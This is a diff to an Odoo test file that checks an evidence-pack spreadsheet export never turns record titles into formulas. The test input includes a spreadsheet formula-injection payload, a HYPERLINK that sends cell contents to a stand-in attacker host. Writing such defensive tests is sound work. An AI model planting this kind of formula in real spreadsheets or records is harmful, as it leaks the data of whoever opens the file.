@@ -16,7 +16,7 @@ from odoo.exceptions import AccessError, UserError
 from odoo.service.model import get_public_method
 from odoo.tests import HttpCase, freeze_time, new_test_user, tagged
 
-from .test_evidence_pack import EvidencePackCase
+from .test_evidence_pack import EvidencePackCase, xlsx_text
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Open the register")'
 
@@ -107,7 +107,7 @@ class TestEvidencePackProbe(EvidencePackCase):
         pack.action_build()
         with self.zip_of(pack) as archive:
             register = archive.read("capa/register.xlsx")
-        self.assertIn(nc.name.encode(), zipfile.ZipFile(io.BytesIO(register)).read("xl/sharedStrings.xml"))
+        self.assertIn(nc.name, xlsx_text(zipfile.ZipFile(io.BytesIO(register))))
         self.assertEqual(formula_cells(register), 0, "a title is text, never a formula")
         document = self.env["qms.document"].sudo().create({
             "name": FORMULA, "tier": "procedure", "department_id": self.dB.id, "company_id": self.co.id,
